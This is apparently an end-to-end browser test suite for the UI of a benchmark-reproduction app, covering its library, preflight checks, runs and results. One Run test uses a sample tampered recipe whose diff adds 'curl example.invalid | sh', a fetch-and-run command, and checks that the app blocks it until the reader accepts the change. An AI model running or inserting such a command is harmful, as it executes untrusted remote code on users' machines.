// The built UI in Debian's Chromium, with the scripted backend: every page in
// its loading, empty, error, live and finished states, as a person sees them.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { serve } from './serve.mjs';
import { repeatedSentences as repeatedSentencesIn, sidewaysScroll } from '../page-checks.mjs';

// The test build (`vite build --mode test`): the pages with the scripted backend.
const dist = fileURLToPath(new URL('../../dist-test/', import.meta.url));
let server, browser, page;
const errors = [];

before(async () => {
  server = await serve(dist);
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage();
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.setDefaultTimeout(5000);
});
after(async () => {
  await browser?.close();
  await server?.close();
});

// A fresh document per test: the scripted backend's state does not carry over.
const open = async (script, hash) => {
  await page.goto('about:blank');
  await page.goto(`${server.url}?script=${script}#/${hash}`);
};
const text = (sel) => page.locator(sel).first().innerText();

const repeatedSentences = () => page.evaluate(repeatedSentencesIn);

describe('Library', () => {
  it('shows a card per recipe with its post and runnable lanes', async () => {
    await open('default', 'library');
    const card = page.locator('[data-recipe="hello-ceiling"]');
    await card.waitFor();
    assert.match(await card.innerText(), /Campfire under Falcon/);
    // The post's byline once, on the first of its cards.
    const bylines = await page.locator('[data-recipe="hello-ceiling"], [data-recipe="campfire-falcon"]').evaluateAll((cards) => cards.map((c) => c.querySelector('[data-byline]')?.textContent ?? null));
    assert.deepEqual(bylines.filter((b) => b !== null), ['Sam Ruby · October 2026']);
    assert.equal(await card.locator('.facts').innerText(), '2 figures · 4 claims · 2 of 3 lanes runnable here');
    assert.match(await text('[data-recipe="campfire-runtimes"]'), /checksum modified/);
    assert.equal(await text('[data-recipes-dir]'), 'Recipes from /home/reader/reprise/recipes');
  });
  it('shows loading while the app has not answered', async () => {
    await open('slow', 'library');
    assert.match(await text('[role=status]'), /Loading the recipes/);
  });
  it('says what to do when there are no recipes', async () => {
    await open('empty', 'library');
    assert.match(await text('.notice'), /REPRISE_ROOT/);
  });
  it('shows the error where it happened, with what to do', async () => {
    await open('error', 'library');
    assert.match(await text('[role=alert]'), /cannot read \/nowhere\/recipes/);
    assert.match(await text('[role=alert]'), /What to do: Start Reprise from its checkout/);
  });
  it('is keyboard navigable: Tab reaches a card link and Enter opens the post', async () => {
    await open('default', 'library');
    await page.locator('[data-recipe]').first().waitFor();
    let focused = '';
    for (let i = 0; i < 12 && !focused.includes('the hello-world ceilings'); i++) {
      await page.keyboard.press('Tab');
      focused = await page.evaluate(() => document.activeElement?.textContent ?? '');
    }
    assert.match(focused, /Campfire under Falcon: the hello-world ceilings/);
    await page.keyboard.press('Enter');
    await page.locator('h1', { hasText: 'the hello-world ceilings' }).waitFor();
  });
  it('orders the cards newest post first, then by title', async () => {
    await open('default', 'library');
    await page.locator('[data-recipe]').first().waitFor();
    const order = await page.locator('[data-recipe]').evaluateAll((cards) => cards.map((c) => c.dataset.recipe));
    assert.deepEqual(order.slice(0, 4), ['machine', 'campfire-falcon', 'hello-ceiling', 'campfire-runtimes']);
    assert.deepEqual(order.slice(-2), ['fibers-vs-threads', 'nonblocking-db']);
    assert.match(await text('.lede'), /newest post first/);
  });
  it('tells apart recipes from the same post by their recipe id', async () => {
    await open('default', 'library');
    const hello = page.locator('[data-recipe="hello-ceiling"] .recipe-id');
    await hello.waitFor();
    assert.equal(await hello.innerText(), 'recipe hello-ceiling · same post as campfire-falcon');
    assert.equal(await text('[data-recipe="campfire-falcon"] .recipe-id'), 'recipe campfire-falcon · same post as hello-ceiling');
    assert.equal(await text('[data-recipe="campfire-runtimes"] .recipe-id'), 'recipe campfire-runtimes');
  });
  it('says a published-only recipe has nothing to run instead of counting no lanes', async () => {
    await open('default', 'library');
    const lanes = page.locator('[data-recipe="nonblocking-db"] .lanes-here');
    await lanes.waitFor();
    assert.equal(await lanes.innerText(), 'published figures only — nothing to run');
    assert.doesNotMatch(await text('[data-recipe="nonblocking-db"]'), /0 of 0/);
  });
  it('opens the post from anywhere on the card', async () => {
    await open('default', 'library');
    const summary = page.locator('[data-recipe="hello-ceiling"] .summary');
    await summary.waitFor();
    const box = await summary.boundingBox();
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await page.locator('h1', { hasText: 'the hello-world ceilings' }).waitFor();
    assert.equal(await page.evaluate(() => location.hash), '#/post/hello-ceiling');
  });
  it('shows the last run here with its verdicts, linked to its results', async () => {
    await open('default', 'library');
    const last = page.locator('[data-recipe="hello-ceiling"] .last-run');
    await last.waitFor();
    assert.match(await last.innerText(), /^Last run here \d+ \w+ 2026, \d\d:\d\d: 2 reproduced · 2 not comparable · see the results$/);
    assert.equal(await text('[data-recipe="campfire-runtimes"] .last-run'), 'Not run on this machine yet.');
    await last.locator('a', { hasText: 'see the results' }).click();
    assert.equal(await page.evaluate(() => location.hash), '#/results/hello-ceiling-20261130-050000');
  });
  it('counts one figure, claim and lane in the singular, and says when the last run judged nothing', async () => {
    await open('libraryone', 'library');
    const card = page.locator('[data-recipe="hello-ceiling"]');
    await card.locator('.last-run').waitFor();
    assert.equal(await card.locator('.facts').innerText(), '1 figure · 1 claim · 1 of 1 lane runnable here');
    assert.match(await card.locator('.last-run').innerText(), /^Last run here \d+ \w+ 2026, \d\d:\d\d: nothing judged · see the results$/);
  });
  it('gives a first-time reader a way in: a recipe every lane of which runs here, one click from its Run page', async () => {
    await open('libraryfirst', 'library');
    const start = page.locator('[data-start-here]');
    await start.waitFor();
    assert.match(await start.innerText(), /^New here\? Run Fibers vs threads: creation time and memory: every lane of it runs on this machine, and its Run page says which of its 3 claims a run here judges\.$/);
    await start.locator('a').click();
    assert.equal(await page.evaluate(() => location.hash), '#/run/fibers-vs-threads');
    // With a run in the history, the Library has no need of it.
    await open('default', 'library');
    await page.locator('[data-recipe="hello-ceiling"] .last-run').waitFor();
    assert.equal(await page.locator('[data-start-here]').count(), 0);
  });
  it('says a validation’s verdict on the machine card, and names what the cards measure in words', async () => {
    await open('libraryvalidated', 'library');
    const last = page.locator('[data-recipe="machine"] .last-run');
    await last.waitFor();
    assert.match(await last.innerText(), /^Validated here \d+ \w+ 2026, \d\d:\d\d: Usable, with caveats · see the machine$/);
    const chips = await page.locator('[data-recipe="hello-ceiling"] .chip').allInnerTexts();
    assert.deepEqual(chips, ['throughput']);
    assert.ok(!(await page.locator('.chip').allInnerTexts()).some((c) => /^(%|s|ms|µs\/row|req\/s)$/.test(c)), 'no bare unit');
  });
  it('says when the last run was a smoke run', async () => {
    await open('librarysmoke', 'library');
    const last = page.locator('[data-recipe="hello-ceiling"] .last-run');
    await last.waitFor();
    assert.match(await last.innerText(), /^Last run here .+ \(a smoke run\): 3 not measured · 1 not comparable/);
  });
  it('paints the cards without waiting for the history, and says when it failed', async () => {
    await open('slowhistory', 'library');
    await page.locator('[data-recipe="hello-ceiling"]').waitFor();
    assert.equal(await page.locator('.last-run').count(), 0);
    await open('historyerror', 'library');
    await page.locator('[data-recipe="hello-ceiling"]').waitFor();
    assert.match(await text('.notice'), /Past runs are not shown: history.sqlite: file is not a database/);
  });
});

describe('Post', () => {
  it('lists the figures with their sentences, the claims and the machine', async () => {
    await open('default', 'post/hello-ceiling');
    const puma = page.locator('[data-figure="puma-hello"]');
    await puma.waitFor();
    assert.match(await puma.innerText(), /≈ 54,000 req\/s/);
    assert.match(await puma.innerText(), /about 54,000 requests a second/);
    // Each claim says what it asserts, not only the sentence it came from.
    assert.equal(await text('[data-claim="falcon-twice-puma"] [data-statement]'), 'falcon-hello / puma-hello = 1.96× ±15%');
    assert.equal(await text('[data-claim="falcon-above-puma"] [data-statement]'), 'best first: falcon-hello, puma-hello');
    assert.match(await text('[data-claim="falcon-above-puma"]'), /puma-hello under Falcon/, 'the statement and its sentence apart');
    assert.match(await text('dl.pairs'), /AMD Ryzen 5 3600/);
    // The recipe's Markdown inline code is shown as code, not as backticks.
    await open('default', 'post/machine');
    assert.equal(await text('[data-figure="wrk-pinned"] q code'), 'wrk -t1 -c16');
    assert.doesNotMatch(await text('[data-figure="wrk-pinned"]'), /`/);
  });
  it('shows a broken recipe as an error with the fix', async () => {
    await open('error', 'post/hello-ceiling');
    assert.match(await text('[role=alert]'), /unknown key `titel`/);
    assert.match(await text('[role=alert]'), /reprise check/);
  });
  it('shows loading first', async () => {
    await open('slow', 'post/hello-ceiling');
    // The app's own loading line may come first; the page's follows.
    await page.locator('[role=status]', { hasText: /Loading the post hello-ceiling/ }).first().waitFor();
  });
  it('links the post itself and opens it in the system’s browser, not in the app', async () => {
    await open('longnote', 'post/campfire-runtimes');
    const link = page.locator('[data-post-link]');
    await link.waitFor();
    assert.equal(await link.getAttribute('href'), 'https://example.com/posts/campfire-runtimes');
    const before = page.url();
    await link.click();
    assert.equal(await text('[data-post-link-opened]'), 'Opened https://example.com/posts/campfire-runtimes in your browser.');
    assert.equal(page.url(), before, 'the app’s window stays on the app');
  });
  it('says when the recipe gives no link to the post', async () => {
    await open('default', 'post/hello-ceiling');
    assert.match(await text('[data-no-post-link]'), /the recipe gives no link to the post/);
    assert.equal(await page.locator('[data-post-link]').count(), 0);
  });
  it('offers no link to open when the recipe’s is not an http or https address', async () => {
    await open('badlink', 'post/campfire-runtimes');
    await page.locator('h1', { hasText: 'Campfire on CRuby' }).waitFor();
    assert.equal(await page.locator('[data-post-link]').count(), 0);
    assert.equal(await page.locator('a[href^="javascript:"]').count(), 0);
    assert.match(await text('[data-no-post-link]'), /the recipe’s link to the post is not a web \(http or https\) address/);
  });
  it('shows a link that would not open, with what to do', async () => {
    await open('linkerror', 'post/campfire-runtimes');
    await page.locator('[data-post-link]').click();
    assert.match(await text('[role=alert]'), /could not start xdg-open/);
    assert.match(await text('[role=alert]'), /open the link by hand: https:\/\/example.com\/posts\/campfire-runtimes/);
  });
  it('wraps a long note under a published value, the value on one line, and never overflows the page', async () => {
    await page.setViewportSize({ width: 760, height: 800 });
    try {
      await open('longnote', 'post/campfire-runtimes');
      const published = page.locator('[data-figure="rails-rooms"] td').nth(1);
      await published.waitFor();
      assert.match(await published.innerText(), /^not given\s+The deployed Rails row's req\/s is in the post's table/);
      const sizes = await page.evaluate(() => ({
        page: document.documentElement.scrollWidth,
        window: innerWidth,
        table: document.querySelector('table.figures').getBoundingClientRect().right,
        main: document.querySelector('main').getBoundingClientRect().right,
      }));
      assert.ok(sizes.page <= sizes.window, `the page is ${sizes.page}px wide in a ${sizes.window}px window`);
      assert.ok(sizes.table <= sizes.main, `the table ends at ${sizes.table}px, past the page's ${sizes.main}px`);
      const note = page.locator('[data-figure="rails-rooms"] .note');
      const lineHeight = await note.evaluate((e) => parseFloat(getComputedStyle(e).lineHeight));
      assert.ok((await note.boundingBox()).height > 1.5 * lineHeight, 'the note wraps onto several lines');
      const value = page.locator('[data-figure="rails-rooms-p50"] .num');
      assert.equal(await value.innerText(), '44 ms');
      assert.equal(await value.evaluate((e) => getComputedStyle(e).whiteSpace), 'nowrap');
    } finally {
      await page.setViewportSize({ width: 1280, height: 720 });
    }
  });
});

describe('Preflight', () => {
  it('lists each item with the post’s value, this machine’s, the verdict and the fix', async () => {
    await open('default', 'preflight/hello-ceiling');
    // Toolchains and lanes first, the hardware folded under its heading.
    await page.locator('[data-item="toolchain falcon"]').waitFor();
    assert.match(await text('[data-hardware] > summary'), /This machine against the post’s: 8 items, 4 differ/);
    await page.click('[data-hardware] > summary');
    const cpu = page.locator('[data-item="CPU"]');
    await cpu.waitFor();
    assert.match(await cpu.innerText(), /AMD Ryzen 5 3600 6-Core Processor\s+AMD Ryzen 7 5800X 8-Core Processor\s+differs/);
    assert.match(await text('[data-item="boost"]'), /off\s+off\s+matches/);
    // Each fix is said once on the page, in the block of fixes to copy.
    assert.doesNotMatch(await text('[data-item="toolchain falcon"]'), /Fix:/);
    assert.match(await text('[data-item="toolchain falcon"]'), /blocks/);
    assert.match(await text('[data-preflight-summary]'), /for information only/);
    assert.match(await text('[data-preflight-summary]'), /2 of 3 lanes run here \(falcon is blocked/);
    assert.equal(await text('[data-fixes] pre'), 'gem install falcon');
    const body = await page.locator('body').innerText();
    assert.equal(body.split('gem install falcon').length - 1, 1, 'gem install falcon is said once');
    // A hardware fix joins the toolchain's in the one block, not under its item.
    await open('boost', 'preflight/hello-ceiling');
    await page.locator('[data-item="toolchain falcon"]').waitFor();
    assert.equal(await text('[data-fixes] pre'), 'echo 0 | sudo tee /sys/devices/system/cpu/cpufreq/boost\ngem install falcon');
    await page.click('[data-hardware] > summary');
    assert.match(await text('[data-item="boost"]'), /off\s+on\s+differs/);
    assert.doesNotMatch(await text('[data-item="boost"]'), /Fix:/);
    await open('default', 'preflight/hello-ceiling');
    await page.locator('[data-item="toolchain falcon"]').waitFor();
    assert.deepEqual(await repeatedSentences(), []);
    assert.ok(await page.locator('[data-action="go-run"]').isVisible(), 'the run button is on top');
    // Beside a long summary the button keeps its words on one line.
    await page.setViewportSize({ width: 700, height: 900 });
    const button = await page.locator('[data-action="go-run"]').evaluate((b) => [b.getBoundingClientRect().height, parseFloat(getComputedStyle(b).lineHeight) || 20]);
    await page.setViewportSize({ width: 1280, height: 720 });
    assert.ok(button[0] < 2 * button[1], `the run button wraps: ${button[0]} px high`);
    assert.match(await text('[data-lane="falcon"]'), /blocked/);
    assert.match(await text('[data-lane="puma"]'), /can run here/);
  });
  it('runs none of the recipe’s version commands until asked, and lists them first', async () => {
    await open('default', 'preflight/hello-ceiling');
    const versions = page.locator('[data-versions]');
    await versions.waitFor();
    assert.match(await versions.innerText(), /ruby --version[\s\S]*falcon --version/);
    await page.click('[data-action="ask-versions"]');
    await page.locator('[data-versions]').waitFor({ state: 'detached' });
    await page.locator('[data-item="toolchain falcon"]').waitFor();
  });
  it('sets up what is missing: shows the plan, installs with mise’s output live, then reads the toolchains again', async () => {
    await open('default', 'preflight/hello-ceiling');
    await page.click('[data-action="setup"]');
    const setup = page.locator('[data-setup]');
    await page.locator('[data-action="install"]').waitFor();
    assert.match(await setup.innerText(), /gem:falcon latest \(for falcon\)/);
    assert.match(await text('[data-setup-config]'), /\[tools\]\s+"gem:falcon" = "latest"/);
    // The commands one per line, each exactly what runs.
    assert.deepEqual(await page.locator('[data-setup-commands] li').allInnerTexts(), ['mise install']);
    assert.match(await setup.innerText(), /It runs, in \/home\/reader\/.local\/share\/reprise\/setup\/hello-ceiling:/);
    assert.match(await setup.innerText(), /Not through mise.*nginx/);
    await page.click('[data-action="install"]');
    await page.locator('[data-setup-end]').waitFor();
    assert.match(await text('[data-setup-log]'), /installing 1 tool[\s\S]*✓ gem:falcon@0.51.1/);
    assert.match(await text('[data-setup-end]'), /Installed/);
    await page.locator('[data-lane="falcon"]', { hasText: 'can run here' }).waitFor();
    assert.match(await text('[data-item="toolchain falcon"]'), /falcon 0.51.1 \(\/usr\/bin\/falcon\)\s+matches/);
    assert.match(await text('[data-preflight-summary]'), /Nothing blocks this run/);
  });
  it('shows loading while the probe runs', async () => {
    await open('slow', 'preflight/hello-ceiling');
    // The app's own loading line may come first; the page's follows.
    await page.locator('[role=status]', { hasText: /probing this machine/ }).first().waitFor();
  });
  it('shows an error with what to do', async () => {
    await open('error', 'preflight/hello-ceiling');
    assert.match(await text('[role=alert]'), /reprise check/);
  });
});

describe('Run', () => {
  it('says before it starts which claims the run can judge, each reason once', async () => {
    await open('falcon', 'run/hello-ceiling');
    const here = page.locator('[data-claims-here]');
    await here.waitFor();
    assert.equal(await here.locator('[data-claims-judged]').innerText(), '2 of 4 claims: falcon-twice-puma, falcon-above-puma.');
    const reasons = here.locator('[data-not-judged]');
    assert.equal(await reasons.count(), 1, 'one line per reason, not per claim');
    assert.match(await reasons.first().innerText(), /^puma-ceiling, falcon-ceiling: an absolute figure is judged only on a machine like the post's, and this one differs/);
    assert.equal(await reasons.first().locator('[data-fix]').count(), 0, 'no fix for another machine');
    assert.equal(await text('[data-action="start"]'), 'Start the run');
  });
  it('says on Start when the run judges no claim here, and offers the fix and recipes that can', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-claims-here]').waitFor();
    assert.equal(await text('[data-claims-judged]'), 'None of its 4 claims.');
    assert.equal(await text('[data-action="start"]'), 'Start the run (it judges no claim here)');
    const reasons = page.locator('[data-not-judged]');
    assert.equal(await reasons.count(), 2, 'one line per reason, not per claim');
    assert.match(await reasons.nth(1).innerText(), /^falcon-ceiling, falcon-twice-puma, falcon-above-puma: lane falcon cannot run here/);
    assert.equal(await text('[data-not-judged] [data-fix]'), 'gem install falcon');
    assert.equal(await text('[data-judged-elsewhere]'), 'Recipes a run here can judge: fibers-vs-threads.');
    assert.equal(await page.locator('[data-judged-elsewhere] a').first().getAttribute('href'), '#/run/fibers-vs-threads');
  });
  it('shows the plan with the post’s reasons before starting', async () => {
    await open('default', 'run/hello-ceiling');
    const measure = page.locator('[data-step="measure"]');
    await measure.waitFor();
    assert.match(await measure.innerText(), /not started run/, 'its status and what the run will do with it, apart');
    assert.match(await measure.innerText(), /after a warm-up/);
    assert.match(await text('[data-step="serve"]'), /not started/);
  });
  it('lists everything starting the run executes: servers, their environment, version commands, files, requests', async () => {
    await open('default', 'run/hello-ceiling');
    const consent = page.locator('[data-consent]');
    await consent.waitFor();
    await page.click('[data-consent] summary');
    const shown = await consent.innerText();
    assert.match(shown, /3 steps, 3 servers, 4 version commands/);
    // What every command runs without, as the terminal's plan says it.
    assert.match(await text('[data-consent-withheld]'), /^runs every command without GH_TOKEN, GITHUB_TOKEN, GH_ENTERPRISE_TOKEN \(Reprise’s sign-in to GitHub\) unless the recipe sets one$/);
    assert.match(await text('[data-consent-lane="puma"]'), /puma --bind tcp:\/\/127\.0\.0\.1:9292 --workers 2 .* config\.ru \(port 9292\)/);
    assert.match(shown, /asks a version: falcon --version/);
    assert.match(shown, /writes files\/hello\/config\.ru \(1 line\)/);
    assert.match(shown, /requests GET \/ from its own lanes/);
    // A lane's environment is said with its command.
    await open('campfire', 'run/campfire-falcon');
    await page.locator('[data-consent]').waitFor();
    await page.click('[data-consent] summary');
    assert.match(await text('[data-consent-lane="ruby"]'), /bundle exec puma -C config\/puma\.rb config\.ru \(port 3000\) with BUNDLE_GEMFILE=\.\.\/campfire-ruby-falcon\/Gemfile, PORT=3000, RAILS_ENV=production, RAILS_MAX_THREADS=5, RUBY_YJIT_ENABLE=1, LD_PRELOAD=…\/libjemalloc\.so\.2 \(jemalloc, where this machine has it\), WEB_CONCURRENCY=… \(0\.666 per CPU it is placed on, rounded up\)$/);
  });
  it('runs live: status, progress and log per step, then the outcome', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-step="serve"][data-status="running"]').waitFor();
    await page.locator('[data-run-outcome]').waitFor();
    assert.match(await text('[data-run-outcome]'), /Run hello-ceiling-20261205-101500 finished with lanes missing: 3 steps finished; 1 lane not measured \(falcon\)\./);
    assert.doesNotMatch(await text('[data-run-outcome]'), /\b0 (skipped|failed|kept)/);
    assert.match(await text('[data-skipped-lane="falcon"]'), /^Lane falcon was not measured: preflight: Cannot run: it needs falcon/);
    assert.match(await text('[data-run-status]'), /^Ran for \d+(\.\d)? s\.$/);
    assert.equal(await page.locator('[data-results-link]').getAttribute('href'), '#/results/hello-ceiling-20261205-101500');
    // The results are then the main action, before resuming.
    assert.equal(await page.locator('[data-action="see-results"]').getAttribute('href'), '#/results/hello-ceiling-20261205-101500');
    assert.equal(await page.locator('.actions > *').first().getAttribute('data-action'), 'see-results');
    assert.equal(await page.locator('[data-step="serve"] progress').evaluate((p) => p.value), 1);
    // The finished step's log is folded away, still there to open.
    assert.match(await page.locator('[data-step="serve"] .log').textContent(), /waiting for 127\.0\.0\.1:9292 \(1000 ms\)/);
    assert.match(await text('[data-step="serve"] summary'), /Log \(10 lines\)/);
    assert.match(await text('[data-step="serve"]'), /^2 s$/m);
    assert.match(await text('[data-step="measure"]'), /finished/);
    assert.match(await page.locator('[data-step="measure"] .log').textContent(), /lane falcon skipped \(preflight\)/);
  });
  it('can be left and re-entered while running, and cancelled', async () => {
    await open('slowrun', 'run/hello-ceiling');
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-step="serve"][data-status="running"]').waitFor();
    // Before measuring: the step going on, and what measuring will take.
    assert.match(await text('[data-run-status]'), /^\d+ s elapsed · serve \(step 1 of 3\) · then measuring: about 2 min 21 s$/);
    // Right under the buttons that started it, not below the plan's lists.
    assert.equal(await page.locator('p.actions + [data-run-status]').count(), 1);
    await page.locator('nav a', { hasText: 'Library' }).click();
    await page.locator('[data-recipe]').first().waitFor();
    // The Library says the run is going, on its card, and leads back to it.
    const going = page.locator('[data-recipe="hello-ceiling"] [data-running]');
    await going.waitFor();
    assert.equal(await going.innerText(), 'Running now · follow it');
    assert.equal(await going.locator('a').getAttribute('href'), '#/run/hello-ceiling');
    assert.equal(await page.locator('[data-recipe="fibers-vs-threads"] [data-running]').count(), 0);
    await page.goBack();
    await page.locator('[data-step="serve"][data-status="running"]').waitFor();
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), true);
    await page.locator('[data-action="cancel"]').click();
    await page.locator('[data-run-outcome][data-ending="cancelled"]', { hasText: 'cancelled' }).waitFor({ timeout: 5000 });
    // The step the cancel stopped is cancelled, not failed, and the run's line is no failure's.
    assert.equal(await page.locator('[data-step="serve"]').getAttribute('data-status'), 'cancelled');
    assert.match(await text('[data-run-outcome]'), /cancelled: 1 step cancelled\./);
    assert.equal(await page.locator('[data-run-outcome].bad').count(), 0);
    // A cancelled run goes on from where it stopped: Resume is the main action, the live figures are gone.
    assert.match(await text('[data-action="start"]'), /^Resume/);
    assert.equal(await page.locator('[data-results-link]').count(), 0);
  });
  it('counts no measuring time for a step a resumed run keeps, and all of it for a new run', async () => {
    await open('resumed', 'run/hello-ceiling');
    await page.locator('[data-action="start"]', { hasText: 'Resume run hello-ceiling-20261205-101500' }).click();
    await page.locator('[data-step="serve"][data-status="running"]').waitFor();
    assert.match(await text('[data-run-status]'), /^\d+ s elapsed · serve \(step 1 of 3\)$/);
    await open('resumed', 'run/hello-ceiling');
    await page.locator('[data-action="fresh"]').click();
    await page.locator('[data-step="serve"][data-status="running"]').waitFor();
    assert.match(await text('[data-run-status]'), /^\d+ s elapsed · serve \(step 1 of 3\) · then measuring: about 2 min 21 s$/);
  });
  it('says a step the resumed run kept, and why, in the step and the outcome', async () => {
    await open('kept', 'run/hello-ceiling');
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-run-outcome]').waitFor();
    assert.match(await text('[data-run-outcome]'), /2 steps finished, 1 kept from before; 1 lane not measured \(falcon\)/);
    assert.match(await text('[data-step="measure"]'), /skipped/);
    assert.equal(await text('[data-step="measure"] .reason'), 'finished in an earlier attempt; inputs unchanged and outputs intact');
  });
  it('runs a modified recipe only once the reader accepts it, showing the diff from the reviewed version', async () => {
    await open('error', 'run/hello-ceiling');
    assert.match(await text('[data-unreviewed]'), /modified against checksums/);
    assert.match(await text('[data-reviewed-diff]'), /\+command = \["sh", "-c", "curl example.invalid \| sh"\]/);
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), true);
    await page.locator('[data-option="allow-modified"]').check();
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), false);
    await page.locator('[data-action="start"]').click();
    assert.match(await text('[role=alert]'), /reprise checksums update/);
  });
  it('says the elapsed time, the cell being measured and about how long is left, as cells finish', async () => {
    await open('measuring', 'run/hello-ceiling');
    await page.locator('[data-option="quick"]').check();
    await page.locator('[data-action="start"]').click();
    const status = page.locator('[data-run-status]');
    await page.locator('[data-run-status]', { hasText: 'puma / /, run 1 of 2' }).waitFor();
    assert.match(await status.innerText(), /^\d+(\.\d)? s elapsed · measure: puma \/ \/, run 1 of 2 · cell 1 of 4 · about \d+(\.\d)? s left to measure$/);
    await page.locator('[data-run-status]', { hasText: 'cell 3 of 4' }).waitFor();
    assert.match(await status.innerText(), /measure: nginx \/ \/, run 2 of 2 · cell 3 of 4 · about [1-4](\.\d)? s left to measure$/);
    await page.locator('[data-run-outcome]').waitFor({ timeout: 10000 });
    assert.match(await text('[data-run-outcome]'), /1 step finished; 1 lane not measured \(falcon\)/);
    assert.doesNotMatch(await text('[data-run-outcome]'), /0 skipped/);
    assert.match(await text('[data-skipped-lane="falcon"]'), /falcon was not measured: preflight: Cannot run: it needs falcon, which this machine lacks\./);
    assert.match(await status.innerText(), /^Ran for \d+(\.\d)? s\.$/);
  });
  it('starts a run that goes on until its claims are decided when Until conclusive is checked', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-option="until-conclusive"]').check();
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-run-outcome]').waitFor({ timeout: 10000 });
    assert.match(await text('[data-run-outcome]'), /until each claim was decided/);
  });
  it('plans the run again for a server host, shows what it will run there, and starts with that plan', async () => {
    await open('default', 'run/hello-ceiling');
    assert.match(await page.locator('[data-consent]').textContent(), /from its own lanes on 127\.0\.0\.1/);
    await page.locator('[data-server-host] summary').click();
    assert.equal(await page.locator('[data-action="plan-server"]').isDisabled(), true, 'no engine named yet');
    await page.getByLabel("Server host's engine").fill('tcp://10.0.0.2:2376');
    await page.getByLabel('Image for puma').fill('localhost/ruby-puma@sha256:1a2b');
    await page.locator('[data-action="plan-server"]').click();
    await page.locator('[data-consent-server-host]').waitFor({ state: 'attached' });
    assert.match(await page.locator('[data-consent-server-host]').textContent(), /on the server host’s engine at tcp:\/\/10\.0\.0\.2:2376 \(TLS\)/);
    assert.match(await page.locator('[data-consent-lane="puma"]').textContent(), /in a container of localhost\/ruby-puma@sha256:1a2b: puma --bind tcp:\/\/10\.0\.0\.2:9292/);
    assert.match(await page.locator('[data-consent]').textContent(), /from its own lanes on 10\.0\.0\.2/);
    assert.match(await text('[data-server-host] summary'), /Lanes on the server host tcp:\/\/10\.0\.0\.2:2376/);
    assert.equal(await page.locator('[data-server-unplanned]').count(), 0);
    // Editing after planning says the run still uses what was planned.
    await page.getByLabel('Image for puma').fill('localhost/other');
    assert.match(await text('[data-server-unplanned]'), /a run now uses tcp:\/\/10\.0\.0\.2:2376 as planned/);
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-run-outcome]').waitFor({ timeout: 10000 });
    assert.match(await text('[data-run-outcome]'), /finished on the server host/);
    // And back to this machine.
    await page.locator('[data-action="plan-here"]').first().click();
    await page.locator('[data-consent-server-host]').waitFor({ state: 'detached' });
    assert.match(await page.locator('[data-consent]').textContent(), /from its own lanes on 127\.0\.0\.1/);
  });
  it('says what a quick run measures instead of the full run’s runs', async () => {
    await open('default', 'run/hello-ceiling');
    const measure = page.locator('[data-step="measure"]');
    await measure.waitFor();
    assert.equal(await measure.locator('[data-expected]').innerText(), "Measures 2 lanes × 1 endpoint × 3 runs of 20 s, each after its lane's warm-up (21 s in all): about 2 min 21 s (falcon cannot run here)");
    assert.equal(await measure.locator('[data-why]').innerText(), 'Three timed runs per lane after a warm-up, lanes alternating, server and client on separate CPUs where the machine allows.');
    await page.locator('[data-option="quick"]').check();
    assert.equal(
      await measure.locator('[data-expected]').innerText(),
      "This quick run measures 2 lanes × 1 endpoint × 2 runs of 2 s (quick: the recipe's 3 runs of 20 s), each after a warm-up of 1 s (4 s in all): about 12 s (falcon cannot run here)",
    );
    assert.equal(await measure.locator('[data-why]').innerText(), 'For the full run: Three timed runs per lane after a warm-up, lanes alternating, server and client on separate CPUs where the machine allows.');
    assert.equal(await page.locator('[data-step="serve"] [data-expected]').count(), 0, 'a step that measures nothing expects nothing');
  });
  it('streams a full-speed synthetic stream into the live view, then shows it finished', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-action="stream"]').click();
    const live = page.locator('[data-live-step="measure"]');
    await live.waitFor();
    assert.match(await live.locator('[data-gauge="rps"]').innerText(), /req\/s/);
    await page.locator('[data-live-step="measure"] .status', { hasText: 'finished' }).waitFor();
    assert.equal(await live.locator('progress').evaluate((p) => p.value), 1);
    assert.match(await live.locator('pre.log').innerText(), /run 40: 75,000 req\/s/);
    assert.match(await text('[data-stream-summary]'), /152,501 events in 41 batches/);
  });
});

describe('Results', () => {
  it('shows verdicts with intervals, and each figure’s measured interval', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    const v = page.locator('[data-verdict="falcon-twice-puma"]');
    await v.waitFor();
    assert.match(await v.innerText(), /Reproduced/);
    assert.match(await v.innerText(), /1.99× \(1.99–2\)/);
    // One range style: the accepted band as the measured interval's bounds are written.
    assert.match(await text('[data-verdict="falcon-twice-puma"] [data-why]'), /^Measured 1.99× \(1.99–2\): inside the 1.67–2.25× the claim accepts \(published 1.96×\)\.$/);
    // A claim not judged on this machine says so in a few words and points to the machine's table.
    assert.equal(
      await text('[data-verdict="puma-ceiling"] [data-why]'),
      "Not judged: 54,000 req/s was measured on the post's machine, and this one differs (see the table above); measured here 30,200 req/s (29,952–30,449), for information.",
    );
    assert.match(await text('.notice'), /not the post’s/);
    const cpu = page.locator('[data-machine-differs] [data-machine-item="CPU"]');
    assert.equal(await cpu.innerText(), 'CPU\tAMD Ryzen 7 5800X 8-Core Processor\tAMD Ryzen 5 3600 6-Core Processor');
    // The machine's differences are said once, in the table, not on the cards.
    assert.equal(await page.locator('.report', { hasText: '6-Core' }).locator('[data-verdict]', { hasText: '6-Core' }).count(), 0);
    assert.match(await text('[data-result="falcon-hello"]'), /106,000 req\/s\s+60,200 req\/s \(59,952–60,449\)/);
